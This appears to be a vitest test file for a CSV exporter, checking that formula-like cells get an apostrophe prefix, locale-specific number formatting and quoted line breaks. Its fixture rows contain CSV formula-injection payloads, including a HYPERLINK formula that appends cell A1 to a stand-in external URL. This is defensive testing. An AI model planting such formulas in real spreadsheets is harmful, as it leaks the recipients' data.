import { buffer } from 'node:stream/consumers';
import { describe, expect, it } from 'vitest';
import type { TExportSheet } from './export-file.ts';
import { csvOf } from './write-csv.ts';

async function* rowsOf<T>(rows: T[]) {
  yield* rows;
}

describe('CSV exports', () => {
  const sheet = (): TExportSheet<'note' | 'change'> => ({
    key: 'notes',
    title: { nl: 'Notities', en: 'Notes' },
    columns: [
      { key: 'note', header: { nl: 'Notitie', en: 'Note' }, type: 'text', width: 40 },
      { key: 'change', header: { nl: 'Verschil', en: 'Change' }, type: 'score', width: 10 },
    ],
    rows: rowsOf([
      { note: '=HYPERLINK("https://example.test/?"&A1;"Klik")', change: -0.25 },
      { note: '@SUM(A1:A9)', change: -1 },
      { note: '-  eerste punt\n-  tweede punt', change: 0.5 },
      { note: 'Gewoon een notitie', change: null },
    ]),
  });

  it('writes a text a spreadsheet would run as a formula with a leading apostrophe, numbers as numbers, line breaks quoted', async () => {
    expect((await buffer(csvOf(sheet(), 'nl'))).toString('utf8')).toBe(
      [
        '\uFEFFNotitie;Verschil',
        `"'=HYPERLINK(""https://example.test/?""&A1;""Klik"")";-0,25`,
        "'@SUM(A1:A9);-1",
        `"'-  eerste punt\n-  tweede punt";0,5`,
        'Gewoon een notitie;',
        '',
      ].join('\r\n'),
    );
    expect((await buffer(csvOf(sheet(), 'en'))).toString('utf8').split('\r\n').slice(1, 3)).toEqual([
      `"'=HYPERLINK(""https://example.test/?""&A1;""Klik"")",-0.25`,
      "'@SUM(A1:A9),-1",
    ]);
  });
});
